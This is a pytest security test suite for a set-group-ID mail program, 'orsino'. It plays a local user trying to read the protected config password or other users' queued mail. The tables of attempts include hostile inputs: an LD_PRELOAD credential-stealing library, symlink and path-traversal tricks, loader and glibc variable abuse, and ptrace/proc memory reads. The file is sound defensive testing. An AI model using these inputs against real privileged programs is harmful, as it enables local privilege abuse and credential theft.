"""A set-group-ID install as an attacker tries it: a user who may send, and may read neither the password nor other
users' messages. Each attempt is a row of ATTEMPTS. All of it is in a mount namespace with files of its own."""

import base64
import os
import shutil
import signal
from pathlib import Path

import pytest

from conftest import table
from installed import ALICE, LOGIN, MALLORY, MINE, SECRET, TELLTALES, house  # noqa: F401
from queueing import IS_SANITIZED
from rogue import SILENCE
from waiting import wait_for

@pytest.fixture(autouse=True)
def nothing_is_lost(house):  # noqa: F811
    """What holds after each attempt, whatever it was."""
    yield
    for path, content in house.loot():
        for telltale in TELLTALES:
            assert telltale not in content, f"in {path}"
    assert not any(telltale in house.heard() for telltale in TELLTALES)
    house.take_back_mine()
    house.is_untouched()
    house.clean()


SEND = "orsino sendmail -i -t"
# An INI of Mallory's own, that leads to his own server, and a line more.
OWN = """mkdir -p .config/orsino; printf '[orsino]\\nlog = none\\n[own]\\nhost = 127.0.0.1\\nport = %s\\ntls = none\\n\
from = mallory@example.it\\n%b\\n' $PORT '{line}' >.config/orsino/orsino.ini; chmod 600 .config/orsino/orsino.ini; """
GLOBALS = """mkdir -p .config/orsino; printf '[orsino]\\nlog = none\\n%b\\n[own]\\nhost = 127.0.0.1\\nport = %s\\ntls = none\\n\
from = mallory@example.it\\n' '{line}' $PORT >.config/orsino/orsino.ini; chmod 600 .config/orsino/orsino.ini; """
# A library that reads for Mallory whatever the one who loads it may read.
SPY = """printf '%s\\n' '#include <stdio.h>' '__attribute__((constructor)) static void spy(void) {{ char t[4096]; size_t n; \
FILE *f = fopen("/etc/orsino.ini", "r"), *o = fopen("/home/mallory/loot", "a"); if (o) fputs("loaded\\n", o); \
if (f && o) {{ n = fread(t, 1, sizeof t, f); fwrite(t, 1, n, o); }} if (o) fclose(o); }}' >spy.c && \
cc -shared -fPIC -o {name} spy.c && """


def possible(rows):
    """Without those for which this machine has no program."""
    return [row for row in rows if (word := row[1].split()[0]) not in ("gdb", "strace") or shutil.which(word)]


def own(line, then):
    return OWN.format(line=line) + then


def own_globals(line, then):
    return GLOBALS.format(line=line) + then


# What Mallory does; the exit codes that it may end with. Where that is 0 his own message went its ordinary way, or he
# was told what he may know.
ATTEMPTS = [
    # Without orsino
    ("the INI, by name", "cat /etc/orsino.ini", {1}),
    ("the spool, by name", "ls $SPOOL $SPOOL/queue $SPOOL/body", {2}),
    ("a message, by name", "cat $SPOOL/body/$ID $SPOOL/queue/$ID", {1}),
    ("a hard link to the INI", "ln /etc/orsino.ini loot", {1}),
    ("a hard link to a message", "ln $SPOOL/body/$ID loot", {1}),
    ("a message as standard input", SEND + " <$SPOOL/body/$ID", {1, 2}),
    ("the binary, copied", f"cp /usr/local/bin/orsino . && ./{SEND}", {77}),
    ("the binary, linked", f"ln -s /usr/local/bin/orsino sendmail && ./sendmail -i -t", {0}),
    # Options
    ("-C with the INI", "orsino sendmail -C /etc/orsino.ini -v -i -t", {77}),
    ("-C with a link to the INI", "ln -s /etc/orsino.ini x && orsino sendmail -C x -i -t", {77}),
    ("-C with a message", "orsino sendmail -C $SPOOL/body/$ID -i -t", {77}),
    ("-C with a record", "orsino sendmail -C $SPOOL/queue/$ID -i -t", {77}),
    ("-C with a descriptor", "exec 3</dev/null; orsino sendmail -C /dev/fd/3 -i -t", {78}),
    ("-C with our own address space", "orsino sendmail -C /proc/self/mem -i -t", {74, 77, 78}),
    ("queue -C with the INI", "orsino queue list -C /etc/orsino.ini", {77}),
    ("serve -C with the INI", "orsino serve -C /etc/orsino.ini", {77}),
    ("-bC shows the INI", "orsino sendmail -bC -v", {0}),
    ("-v shows the login", "orsino sendmail -v -i -t", {0}),
    ("-d shows the insides", "orsino sendmail -d99.9 -i -t", {0}),
    ("-X logs into a file", "orsino sendmail -X loot -i -t", {0}),
    ("-D logs into a file", "orsino sendmail -D loot -d99 -i -t", {0}),
    ("-O moves the queue", "orsino sendmail -O QueueDirectory=/home/mallory -odq -i -t", {0}),
    ("-oQ moves the queue", "orsino sendmail -oQ/home/mallory -odq -i -t", {0}),
    ("-oA reads a file as aliases", "orsino sendmail -oA/etc/orsino.ini -bv root@example.it", {0}),
    ("-L with a format", "orsino sendmail -L '%s%s%s%n' -i -t", {0}),
    ("-F with the INI's name", "orsino sendmail -F :include:/etc/orsino.ini -i -t", {0}),
    ("a recipient that includes the INI", "orsino sendmail -bv :include:/etc/orsino.ini", {65, 67}),
    ("a recipient that is the INI", "orsino sendmail -bv /etc/orsino.ini", {0, 65, 67}),
    ("a recipient that is a program", "orsino sendmail -bv '|cat /etc/orsino.ini'", {0, 65, 67}),
    ("-bt asks for more", "echo '=S0' | orsino sendmail -bt", {0, 65}),
    ("-bi reads the INI as aliases", "orsino sendmail -bi -oA/etc/orsino.ini", {0, 72}),
    ("a relay of his own", "orsino serve", {71, 77}),
    ("-bs, another's words", "printf 'EHLO x\\r\\nVRFY alice\\r\\nEXPN alice\\r\\nHELP\\r\\nQUIT\\r\\n' | orsino sendmail -bs", {0}),
    ("check", "orsino check", {0}),
    ("check --json", "orsino check --json", {0}),
    ("check of the INI", "orsino check -C /etc/orsino.ini", {77}),
    ("check --send of the INI's name", "orsino check --send :include:/etc/orsino.ini", {65}),
    ("probe with the INI", "orsino probe -C /etc/orsino.ini localhost", {77}),
    ("setup of the INI", "ORSINO_PASSWORD=x orsino setup -C /etc/orsino.ini --non-interactive --host evil.example a@b.it", {77}),
    ("setup of a link to the INI", "ln -s /etc/orsino.ini x; ORSINO_PASSWORD=x orsino setup -C /home/mallory/x --non-interactive --host evil.example a@b.it", {77}),
    ("setup in the spool", "ORSINO_PASSWORD=x orsino setup -C $SPOOL/queue/EVIL --no-check --non-interactive --host evil.example a@b.it", {73, 77}),
    # The queue
    ("mailq", "mailq() { orsino mailq; }; mailq", {0}),
    ("-bp -v", "orsino sendmail -bp -v", {0}),
    ("queue list", "orsino queue list", {0}),
    ("queue list --json", "orsino queue list --json", {0}),
    ("queue failed --json", "orsino queue failed --json", {0}),
    ("queue show", "orsino queue show $ID", {64}),
    ("queue show by a part", "orsino queue show $(echo $ID | cut -c1-3)", {64}),
    ("queue show --message", "orsino queue show --message $ID", {64}),
    ("queue show --message of a failed one", "orsino queue show --message $FAILED", {64}),
    ("queue show --json", "orsino queue show --json $ID", {64}),
    ("queue show of a way out", "orsino queue show ../../../../etc/orsino.ini", {64}),
    ("queue show --message of a way out", "orsino queue show --message ../body/$ID", {64}),
    ("queue hold", "orsino queue hold $ID", {64}),
    ("queue release", "orsino queue release $ID", {64}),
    ("queue retry", "orsino queue retry $FAILED", {64}),
    ("queue remove", "orsino queue remove $ID", {64}),
    ("queue remove of a failed one", "orsino queue remove $FAILED", {64}),
    ("queue remove all", "orsino queue remove all", {0}),
    ("queue hold all", "orsino queue hold all", {0}),
    ("queue retry all", "orsino queue retry all", {0}),
    ("queue run", "orsino queue run", {0}),
    ("queue run of one", "orsino queue run $ID", {64}),
    ("-q", "orsino sendmail -q -v", {0}),
    ("-qI", "orsino sendmail -qI$ID", {64}),
    ("-qR", "orsino sendmail -qRanna -v", {0}),
    # The environment
    ("ORSINO_HOST, his own server", "ORSINO_HOST=127.0.0.1 ORSINO_PORT=$PORT ORSINO_TLS=none ORSINO_AUTH=plain " + SEND, {0}),
    ("ORSINO_TLS_NAME and ORSINO_CA_FILE", "ORSINO_TLS_NAME=evil.example ORSINO_CA_FILE=/dev/null " + SEND, {0}),
    ("ORSINO_LOG", f"ORSINO_LOG=/home/mallory/loot {SEND} && test ! -e loot", {0}),
    ("ORSINO_QUEUE", f"ORSINO_QUEUE=/home/mallory {SEND} -odq && test -z \"$(ls)\"", {0}),
    ("ORSINO_ALIASES", "ORSINO_ALIASES=/etc/orsino.ini orsino sendmail -bv house", {0, 65}),
    ("ORSINO_PASSWORD_FILE", f"ORSINO_PASSWORD_FILE=/etc/orsino.ini {SEND}", {0}),
    ("HOME, with a link to the INI", f"ln -s /etc/orsino.ini .orsino.ini && {SEND}", {0}),
    ("HOME, where the INI's folder is", f"HOME=/etc {SEND}", {0}),
    ("XDG_CONFIG_HOME, a folder of links", f"mkdir x && ln -s /etc x/orsino && XDG_CONFIG_HOME=$HOME/x {SEND}", {0}),
    ("XDG_STATE_HOME, the spool", own("", f"XDG_STATE_HOME=/var/spool {SEND} -odq"), {0}),
    ("TMPDIR, the spool", f"TMPDIR=$SPOOL/new {SEND}", {0}),
    ("TZ, the INI", f"TZ=:/etc/orsino.ini {SEND} -v", {0}),
    ("LD_PRELOAD", SPY.format(name="spy.so") + f"LD_PRELOAD=$HOME/spy.so {SEND}; ! grep password loot", {0}),
    ("LD_LIBRARY_PATH", SPY.format(name="libc.so.6") + f"LD_LIBRARY_PATH=$HOME /usr/local/bin/{SEND}; test ! -e loot", {0}),
    ("LD_AUDIT", SPY.format(name="spy.so") + f"LD_AUDIT=$HOME/spy.so {SEND}; test ! -e loot", {0}),
    ("LD_DEBUG", f"LD_DEBUG=all LD_DEBUG_OUTPUT=$HOME/loot {SEND}", {0}),
    ("GCONV_PATH and LOCPATH", f"GCONV_PATH=$HOME LOCPATH=$HOME LANG=x.Y NLSPATH=/etc/orsino.ini {SEND}", {0}),
    ("HOSTALIASES and RESOLV_HOST_CONF", f"HOSTALIASES=/etc/orsino.ini RESOLV_HOST_CONF=/etc/orsino.ini {SEND} -v", {0}),
    ("RES_OPTIONS and LOCALDOMAIN", f"RES_OPTIONS=debug LOCALDOMAIN=example.org {SEND}", {0}),
    ("MALLOC_TRACE and GLIBC_TUNABLES", f"MALLOC_TRACE=$HOME/loot GLIBC_TUNABLES=glibc.malloc.check=3 {SEND}", {0}),
    ("GMON_OUT_PREFIX and friends", f"GMON_OUT_PREFIX=/etc/orsino.ini LD_PROFILE=orsino LD_PROFILE_OUTPUT=$HOME {SEND}", {0}),
    ("LISTEN_FDS", "LISTEN_PID=$$ LISTEN_FDS=1 exec orsino serve 3</dev/null", {69, 71, 77, 78}),
    # An INI of his own, for which the group is given up
    ("password_file, the INI", own("user = x\\npassword_file = /etc/orsino.ini", SEND), {77}),
    ("ca_file, the INI", own("ca_file = /etc/orsino.ini", f"sed -i s/none/implicit/ .config/orsino/orsino.ini; {SEND}"), {77, 78}),
    ("aliases, the INI", own_globals("aliases = /etc/orsino.ini", "orsino sendmail -bv house"), {65, 74, 75, 77}),
    ("aliases that include the INI",
     own_globals("aliases = /home/mallory/a", "echo 'x: :include:/etc/orsino.ini' >a; orsino sendmail -bv x"), {65, 67, 74, 75, 77}),
    ("log, the INI", own_globals("log = /etc/orsino.ini", f"sed -i 's/log = none//' .config/orsino/orsino.ini; {SEND}"), {0, 73, 77, 78}),
    ("log, a record", own_globals("log = /var/spool/orsino/queue/EVIL", f"sed -i 's/log = none//' .config/orsino/orsino.ini; {SEND}"), {0, 73, 77, 78}),
    ("queue, the spool", own_globals("queue = /var/spool/orsino", "orsino queue list"), {74, 77}),
    ("queue, the spool, to write", own_globals("queue = /var/spool/orsino", f"{SEND} -odq"), {0}),
    ("queue, a link to the spool", own_globals("queue = /home/mallory/q", "ln -s $SPOOL q; orsino queue list"), {72, 77}),
    ("listen_users, the INI",
     own_globals("listen = 127.0.0.1:0\\nlisten_users = /etc/orsino.ini\\nlisten_allow = 10.0.0.0/8", "orsino serve"), {77, 78}),
    ("listen_cert, the INI", own_globals("listen = 127.0.0.1:0\\nlisten_cert = /etc/orsino.ini", "orsino serve"), {77, 78}),
    # What a process inherits
    ("no descriptors", f"{SEND} <&- >&- 2>&-", {74}),
    ("no name", "exec bash -c 'exec -a \"\" orsino -i -t'", {0}),
    ("the name of mailq", "exec bash -c 'exec -a mailq orsino'", {0}),
    ("the name of runq", "exec bash -c 'exec -a runq orsino'", {0}),
    ("no standard error", f"{SEND} 2>&-", {0}),
    ("a full set of descriptors", f"exec 3>a 4>b 5>c 6>d 7>e 8>f 9>g; {SEND} && test ! -s a -a ! -s b -a ! -s c -a ! -s g", {0}),
    ("umask 0", f"umask 0; {SEND} -odq", {0}),
    ("files of no size", f"trap '' XFSZ; ulimit -f 0; {SEND}", {0}),
    ("files of no size, to the queue", f"trap '' XFSZ; ulimit -f 0; {SEND} -odq", {0, 75}),
    ("four descriptors", f"ulimit -n 4; {SEND}", {75}),
    ("no processes", f"ulimit -u 0; {SEND} -odb", {0}),
    ("a folder that is gone", f"mkdir x; cd x; rmdir ../x; {SEND}", {0}),
    ("a folder that may not be read", f"mkdir x; cd x; chmod 0 .; {SEND}", {0}),
    ("all signals ignored", f"trap '' HUP INT QUIT TERM PIPE USR1 USR2 ALRM CHLD; {SEND}", {0}),
    # Links where orsino might write
    ("dead.letter, a link to the INI", own_globals("queue =", "ln -s /etc/orsino.ini dead.letter; "
     "sed -i 's/port = .*/port = 1/' .config/orsino/orsino.ini; orsino sendmail -oem -i -t"), {75}),
    ("dead.letter, a link into the spool", own_globals("queue =", "ln -s $SPOOL/queue/EVIL dead.letter; "
     "sed -i 's/port = .*/port = 1/' .config/orsino/orsino.ini; orsino sendmail -oem -i -t"), {75}),
    ("a state folder, a link to the spool",
     own("", f"mkdir -p .local/state && ln -s $SPOOL .local/state/orsino && {SEND} -odq"), {0}),
    # A program under somebody's eyes has no more rights than he
    ("strace from the start", f"strace -f -s 4096 -o loot {SEND}", {77}),
    ("gdb from the start", "gdb -q -batch -ex run -ex 'info proc mappings' "
     f"--args {SEND} </dev/null >loot 2>&1; exit 0", {0}),
    ("no new privileges", f"setpriv --no-new-privs {SEND}", {77}),
    ("a namespace of his own", f"unshare -Ur {SEND}", {1, 77}),
]  # fmt: skip


@table("script, codes", possible(ATTEMPTS))
def test_an_attempt(script, codes, house):  # noqa: F811
    code, out, err = house.run(script, message=MINE)
    for telltale in TELLTALES:
        assert telltale not in out + err
    assert house.queued.encode() not in out + err or "$ID" in script
    assert code in codes, f"exit {code}: {out + err!r}"


@pytest.fixture
def waiting(house):  # noqa: F811
    """A process of Mallory's that has read the password, and waits for a silent server."""
    started, script = [], house.server.script
    house.server.script = {"greeting": [SILENCE]}

    def start(before=""):
        count = len(house.server.sessions)
        process = house.start(f"{before} exec {SEND} anna@example.org")
        started.append(process)
        process.stdin.write(MINE)
        process.stdin.close()
        wait_for(lambda: len(house.server.sessions) > count, 20, "the password in memory")
        return process

    yield start
    house.server.script = script
    for process in started:
        process.kill()
        process.wait()
        for pipe in (process.stdout, process.stderr):
            pipe.close()


READ_MEMORY = """exec python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
room = ctypes.create_string_buffer(4096)
here, there = iovec(ctypes.addressof(room), 4096), iovec(0x400000, 4096)
assert libc.process_vm_readv({pid}, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) < 0
raise SystemExit(ctypes.get_errno())'"""
ATTACH = """exec python3 -c '
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, {pid}, 0, 0) < 0
raise SystemExit(ctypes.get_errno())'"""
# On a process of his own; that it may not be looked at is seen by the exit code.
LOOKS = [
    ("its memory", "dd if=/proc/{pid}/mem of=loot bs=4096 count=1 skip=1024", {1}),
    ("its maps", "cat /proc/{pid}/maps", {1}),
    ("its environment", "cat /proc/{pid}/environ", {1}),
    ("its descriptors", "ls -l /proc/{pid}/fd/", {1, 2}),
    ("its root", "ls /proc/{pid}/root/", {1, 2}),
    ("its folder", "ls /proc/{pid}/cwd/", {1, 2}),
    ("its program's place", "readlink /proc/{pid}/exe", {1}),
    ("its stack", "cat /proc/{pid}/stack", {1}),
    ("its system calls", "cat /proc/{pid}/syscall", {1}),
    ("its auxiliary vector", "cat /proc/{pid}/auxv", {1}),
    ("process_vm_readv", READ_MEMORY, {1}),  # EPERM
    ("ptrace", ATTACH, {1}),
    ("gdb", "gdb -q -batch -p {pid} -ex generate-core-file 2>&1 | grep 'not permitted'", {0}),
    ("strace", "strace -p {pid}", {1}),
]  # fmt: skip


@table("script, codes", possible(LOOKS))
def test_a_look_at_a_running_process(script, codes, house, waiting):  # noqa: F811
    process = waiting()
    code, out, err = house.run(script.replace("{pid}", str(process.pid)))
    assert code in codes and not any(telltale in out + err for telltale in TELLTALES), (code, out, err)
    assert process.poll() is None


@pytest.mark.parametrize("number", [signal.SIGSEGV, signal.SIGQUIT, signal.SIGABRT, signal.SIGTRAP, signal.SIGSYS], ids=lambda n: n.name)
def test_no_core_file(number, house, waiting):  # noqa: F811
    """It would hold the password. The fixture looks at what is in Mallory's folder afterwards."""
    process = waiting("ulimit -c unlimited;")
    status = Path(f"/proc/{process.pid}/coredump_filter")
    assert status.exists()
    code, _, err = house.run(f"kill -{number.value} {process.pid}")
    assert (code, err) == (0, b"")
    process.wait(20)
    assert process.returncode == -number or IS_SANITIZED
    assert [path.name for path in house.home.iterdir()] == []


def test_who_sees_what(house):  # noqa: F811
    """Each user his own, root all."""
    for user, message in ((MALLORY, MINE), (0, b"To: anna@example.org\n\nof root\n")):
        house.run(f"{SEND} -odq", user=user, message=message)
    (root_s,) = (name for name in os.listdir(house.spool / "queue") if "owner: 0\n" in (house.spool / "queue" / name).read_text())
    (mine,) = set(os.listdir(house.spool / "queue")) - {house.queued, root_s}
    for user, seen in ((MALLORY, {mine}), (ALICE, {house.queued}), (0, {mine, house.queued, root_s})):
        for words in ("queue list --json", "queue list"):
            out = house.run(f"orsino {words}", user=user)[1].decode()
            assert {name for name in (mine, house.queued, root_s) if name in out} == seen
        assert house.run("orsino sendmail -bP", user=user)[1] == b"%d\n" % len(seen)
    code, out, _ = house.run("orsino queue show --message $ID", user=ALICE)
    assert code == 0 and SECRET in out
    for user, name in ((MALLORY, mine), (0, root_s)):
        assert house.run(f"orsino queue remove {name}", user=user)[0] == 0


def test_an_ini_that_is_not_the_group_s(house):  # noqa: F811
    """The cure is the group's right, not a group of web servers, which would see the password."""
    group = house.ini.stat().st_gid
    try:
        os.chown(house.ini, 0, 0)
        code, _, err = house.run(SEND, message=MINE)
    finally:
        os.chown(house.ini, 0, group)
    assert code == 77 and b"; this program has the right of group orsino (as root give it to that group: chgrp, and chmod 640)" in err
    code, _, err = house.run("orsino check -C /etc/orsino.ini; orsino sendmail -C /etc/orsino.ini -i -t", message=MINE)
    assert code == 77 and err.endswith(b"; -C gives up the right of this program's group (leave out -C)\n")


def test_a_queue_that_is_gone_is_told(house):  # noqa: F811
    away = house.spool.with_name("away")
    house.spool.rename(away)
    try:
        seen = [house.run("orsino check", user=user)[1] for user in (0, MALLORY)]
    finally:
        away.rename(house.spool)
    for out in seen:
        assert b"warning  queue " in out and b"/var/spool/orsino is not there, which install.sh makes\n" in out, out


def test_a_variable_that_does_not_count_is_named(house):  # noqa: F811
    code, _, err = house.run("orsino serve", variables={"ORSINO_LISTEN": "2525"})
    assert code != 0 and b"; ORSINO_LISTEN does not count: this program has the right of a group (" in err
    _, out, _ = house.run("orsino check", variables={"ORSINO_PORT": "1", "ORSINO_USER": "mallory"})
    assert b"does not count: this program has the right of a group\n" in out and b"mallory" not in out


def test_what_is_kept_belongs_to_the_group(house):  # noqa: F811
    assert house.run(f"umask 0; {SEND} -odq", message=MINE)[0] == 0
    (mine,) = set(os.listdir(house.spool / "queue")) - {house.queued}
    for folder in ("queue", "body"):
        st = (house.spool / folder / mine).stat()
        assert (st.st_uid, oct(st.st_mode & 0o7777)) == (MALLORY, "0o660")
        assert st.st_gid == house.spool.stat().st_gid != MALLORY
    assert [path.name for path in (house.spool / "new").iterdir()] == []


def test_the_message_of_a_user_goes_out_with_the_login(house):  # noqa: F811
    count = len(house.server.sessions)
    assert house.run(SEND, message=MINE) == (0, b"", b"")
    house.server.wait()
    (session,) = house.server.sessions[count:]
    assert base64.b64encode(LOGIN).decode() in " ".join(session.lines) and b"nothing to hide" in session.text
